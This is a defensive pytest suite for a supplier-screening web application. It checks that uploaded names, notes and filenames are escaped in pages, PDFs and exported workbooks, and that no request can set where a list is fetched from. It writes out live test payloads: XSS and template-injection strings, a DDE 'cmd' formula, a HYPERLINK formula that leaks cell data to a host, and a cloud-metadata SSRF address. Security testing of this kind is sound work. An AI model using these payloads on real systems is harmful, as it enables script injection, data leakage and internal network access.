"""No text of a sheet, a list, a file or a person runs in a browser, on paper or in a spreadsheet (W8, W10, W13)."""

from __future__ import annotations

import csv
import importlib
import io
import json
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from battery_room import REASON, BatteryRoom, opened, over_http
from desk_visitors import workbook_bytes
from in_chromium import CHROMIUM, FLAGS
from openpyxl import load_workbook
from playwright.sync_api import sync_playwright

sys.path.append(str(Path(__file__).resolve().parents[1] / "flags"))  # where the review's bench stands
from reviewed import HOSHINE, LINE, Bench

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(2)>'
LINK = "javascript:alert(3)"
SVG = "<svg/onload=alert(4)>"
TEMPLATE = "{{7*7}}${7*7}#{7*7}"
BREAK = "</textarea></title></style></script>" + SCRIPT
EVIL = f"{SCRIPT}{IMAGE}{SVG}{TEMPLATE}{BREAK}'onmouseover='alert(5)"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
HEADINGS = ("Supplier", "Product", "Country of origin", "Supplier no.", "Address", f"Note {SCRIPT}")
ROWS = [
    HEADINGS,
    (
        f"Hoshine Silicon Industry (Shanshan) Co., Ltd. {EVIL}",
        f"Silicone tubing {EVIL}",
        "China",
        f"V{IMAGE}",
        EVIL,
        EVIL,
    ),
    (EVIL, f"cotton {EVIL}", f"Turkmenistan {SCRIPT}", "V2", EVIL, FORMULA),
    (FORMULA, "=1+1 cotton gauze", "China", "+1", "@SUM(A1)", "-2+3"),
    ("+cmd|' /C calc'!A0 Hoshine Silicon", "@cotton", "China", "\tV", "\rx", "=1"),
]


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> BatteryRoom:
    """Every text that somebody else can bring in is hostile."""
    made = opened(tmp_path_factory.mktemp("markup"))
    answer = made.enter("officer").send(workbook_bytes(ROWS), f"{SCRIPT.replace('/', '')}{TEMPLATE}.xlsx")
    assert answer.status_code == 303, answer.text
    made.screening_id = answer.headers["Location"].rpartition("/")[2]
    desk = made.app.extensions["desk"]
    feed = replace(
        HOSHINE, name=f"Hoshine {EVIL}", basis=EVIL, programme=EVIL, remarks=EVIL, addresses=(EVIL,), source_url=LINK
    )
    bench = Bench(desk.store, now=desk.clock(), entry=feed)
    bench.upload(replace(LINE, supplier_name=f"Hoshine {EVIL}", supplier_id=EVIL, address=EVIL), file=f"{SCRIPT}.xlsx")
    bench.lists(replace(feed, remarks=f"changed {EVIL}", source_url="https://example.org/"), "2")
    bench.upload(replace(LINE, supplier_name=f"Hoshine {EVIL}", supplier_id=EVIL, address=EVIL, row=9))
    ann, admin = made.enter("reviewer"), made.enter("admin")
    admin.post("/admin/organisations", name=EVIL)
    admin.post("/admin/accounts/organisation", name=EVIL[:100])
    admin.post("/admin/accounts", login="evil@example.org", name=EVIL, role="officer")
    admin.post("/account/tokens", name=EVIL, scope="read", days="3")
    for flag in made.flags()[:2]:
        sent = {"file": (io.BytesIO(f"%PDF {flag.flag_id}".encode()), f"{IMAGE}{TEMPLATE}.pdf"), "note": EVIL}
        ann.post(f"/review/{flag.flag_id}/evidence", **sent)
        form = {"decision": "false_positive", "reason": f"{REASON} {EVIL}", "revision": str(flag.revision)}
        ann.post(f"/review/{flag.flag_id}/decision", **form)
    ann.drop(workbook_bytes(ROWS), f"{IMAGE}.xlsx")
    ann.drop(b"nonsense", f"{SCRIPT}.xlsx")
    desk_work(made)
    return made


def desk_work(room: BatteryRoom) -> None:
    """What waits is worked off: columns to confirm, and a file that cannot be read."""
    importlib.import_module("desk_visitors").work(room.app)


def pages(room: BatteryRoom) -> list[str]:
    """Every address of a page, each with what is hostile behind it."""
    admin = room.enter("admin")
    made = [
        rule.rule
        for rule in room.app.url_map.iter_rules()
        if "GET" in (rule.methods or ())
        and not rule.arguments
        and not rule.rule.startswith(("/api/", "/metrics", "/login/", "/readyz"))
    ]
    for flag in room.flags():
        key = httpx.QueryParams({"key": flag.supplier_key})
        made += [f"/review/{flag.flag_id}", f"/evidence/{flag.flag_id}", f"/suppliers/show?{key}"]
    text = httpx.QueryParams({"q": EVIL})
    shown = f"/screenings/{room.screening_id}"
    made += [
        f"/review?{text}",
        f"/suppliers?{text}",
        "/review?status=all",
        f"/review?{httpx.QueryParams({'country': EVIL})}",
    ]
    made += [
        shown,
        f"{shown}/not-screened",
        f"{shown}/erase",
        f"/login?{httpx.QueryParams({'next': LINK})}",
        f"/{EVIL[:80]}",
    ]
    made += [f"/lists/{key}" for key in ("uflpa_entities", "cbp_wro")]
    made += [f"/admin/accounts/{admin.account.account_id}", f"/changes?{httpx.QueryParams({'rescreening': EVIL})}"]
    uploads = admin.get("/").text.split("/uploads/")[1:]
    return made + sorted({f"/uploads/{part[:32]}" for part in uploads if part[:32].isalnum()})


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine (apt-get install chromium)")
def test_no_page_runs_a_text_of_somebody_elses(room: BatteryRoom) -> None:
    complaints: list[str] = []
    admin = room.enter("admin")
    cookie = admin.client.get_cookie("supplychain_desk")
    assert cookie is not None
    with over_http(room.app) as address, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        context = browser.new_context()
        context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": address}])
        page = context.new_page()
        elsewhere: list[str] = []
        page.on("dialog", lambda dialog: (complaints.append(f"{page.url}: dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda asked: elsewhere.append(asked.url) if not asked.url.startswith(address) else None)
        page.on(
            "console",
            lambda said: (
                complaints.append(f"{page.url}: {said.text}") if "Content Security Policy" in said.text else None
            ),
        )
        shown = 0
        for path in pages(room):
            answer = page.goto(address + path)
            if answer is None or answer.status >= 500:
                complaints.append(f"{path}: {answer.status if answer else 'no answer'}")
            shown += 1
            html = page.content()
            strange = page.evaluate(
                "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on')"
                " || /^\\s*javascript:/i.test(a.value) && ['href','src','action','formaction'].includes(a.name))"
                " || e.tagName === 'IMG' && e.getAttribute('src') === 'x').map(e => e.outerHTML.slice(0, 100))"
            )
            complaints += [f"{path}: {one}" for one in strange]
            if "alert(" in page.evaluate("[...document.scripts].map(s => s.textContent).join('')"):
                complaints.append(f"{path}: a script of somebody else's")
            if "{{49}}" in html or "49${49}" in html or "49#{49}" in html:
                complaints.append(f"{path}: a template of somebody else's")
        browser.close()
    assert complaints == []
    assert elsewhere == []
    assert shown > 30


def test_no_page_holds_the_texts_unescaped(room: BatteryRoom) -> None:
    admin, escaped = room.enter("admin"), 0
    for path in pages(room):
        answer = admin.client.get(path)
        assert answer.status_code < 500, path
        text = answer.text
        for one in (SCRIPT, "<img src=x", "<svg/onload", f'href="{LINK}', "'onmouseover='alert"):
            assert one not in text, (path, one)
        escaped += "&lt;script&gt;alert(1)" in text
        assert "{{7*7}}" in text or "7*7" not in text, path
    assert escaped > 15


def test_the_evidence_pack_is_data_and_paper_that_asks_nobody_anything(
    room: BatteryRoom, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    drawn: list[str] = []
    makers = room.app.extensions["desk"].makers
    make = makers.make
    monkeypatch.setattr(makers, "make", lambda *call: drawn.append(call[-1]) or make(*call))
    paper = importlib.import_module("supplychain.paper")
    monkeypatch.setattr(
        paper, "_refuse", lambda url, *_, **__: asked.append(url) or (_ for _ in ()).throw(ValueError(url))
    )
    ann = room.enter("reviewer")
    for flag in room.flags()[:3]:
        made = ann.post(f"/evidence/{flag.flag_id}/export", format="json")
        assert made.status_code == 200
        assert made.headers["Content-Disposition"].startswith('attachment; filename="evidence-')
        json.loads(made.data)
    made = ann.post(f"/evidence/{room.flags()[0].flag_id}/export", format="pdf")
    assert made.data.startswith(b"%PDF-")
    assert b"/JavaScript" not in made.data
    assert b"/URI (javascript" not in made.data
    paper.pdf_of(drawn[-1])  # once more, in this process
    assert asked == []


def test_nothing_that_is_handed_out_holds_a_formula(room: BatteryRoom) -> None:
    officer, text = room.enter("officer"), io.StringIO()
    csv.writer(text).writerows([HEADINGS, *ROWS[3:], ("@SUM(A1)", "cotton", "", "-1", "%0A=1", "\x01\x0b=1")])
    answer = officer.send(text.getvalue().encode(), "=1+1.csv")
    assert answer.status_code == 303, answer.text
    shown = answer.headers["Location"]
    made = officer.get(f"{shown}/workbook")
    assert made.status_code == 200
    cells = [cell for sheet in load_workbook(io.BytesIO(made.data)) for row in sheet.iter_rows() for cell in row]
    made.close()
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert FORMULA in {str(cell.value) for cell in cells}
    links = {cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target}
    assert all(link.startswith("https://") for link in links)
    headers = {"Authorization": f"Bearer {room.token()}"}
    lines = room.app.test_client().get(f"/api/v1{shown}/lines", headers=headers)
    assert lines.headers["Content-Type"].startswith("application/json")
    assert FORMULA in {one["supplier"] for one in lines.json["lines"]}


@pytest.fixture(scope="module")
def hostile(shared: Path) -> Iterator[bytes]:
    yield (shared / "badfiles" / "files" / "xss_sqli_ssti_names.xlsx").read_bytes()


def test_the_corpus_hostile_names_stay_names(room: BatteryRoom, hostile: bytes) -> None:
    officer = room.enter("officer")
    answer = officer.send(hostile, "xss_sqli_ssti_names.xlsx")
    assert answer.status_code == 303, answer.text
    shown = answer.headers["Location"]
    for path in (shown, f"{shown}/not-screened", "/overview", "/suppliers", "/review", "/screenings"):
        text = officer.get(path).text
        for one in ("<script>", "<img src=x", "onerror=alert", "49</"):
            if one == "onerror=alert" and "&lt;" in text:
                continue  # as text it may stand there
            assert one not in text, (path, one)


def test_no_way_of_the_desk_sets_where_a_list_is_fetched_from(room: BatteryRoom) -> None:
    """Only SUPPLYCHAIN_SOURCE_<KEY> does, which the operator alone can set: so no request makes the desk fetch (W13)."""
    takes_address = [
        rule.rule
        for rule in room.app.url_map.iter_rules()
        if any(word in rule.rule for word in ("source", "url", "fetch", "refresh"))
    ]
    assert takes_address == []
    admin = room.enter("admin")
    before = [(one.key, one.version.source_url if one.version else "") for one in room.app.extensions["desk"].shelf()]
    for name in ("url", "source", "source_url", "address", "digest_webhook"):
        for path in ("/lists/uflpa_entities/held-back", "/admin/accounts/organisation", "/admin/organisations"):
            admin.post(path, **{name: "http://169.254.169.254/", "reason": REASON})
    after = [(one.key, one.version.source_url if one.version else "") for one in room.app.extensions["desk"].shelf()]
    assert before == after
